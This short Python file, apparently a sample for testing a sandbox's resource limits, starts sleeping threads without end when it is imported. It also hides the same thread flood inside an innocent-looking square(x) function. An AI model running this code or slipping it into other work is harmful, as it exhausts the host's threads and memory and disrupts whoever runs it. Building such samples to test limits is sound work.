# Threads without end, while loading and in a call.
import threading
import time


def more():
    while True:
        try:
            threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
        except (RuntimeError, MemoryError):
            break


more()


def square(x):
    more()
    return x
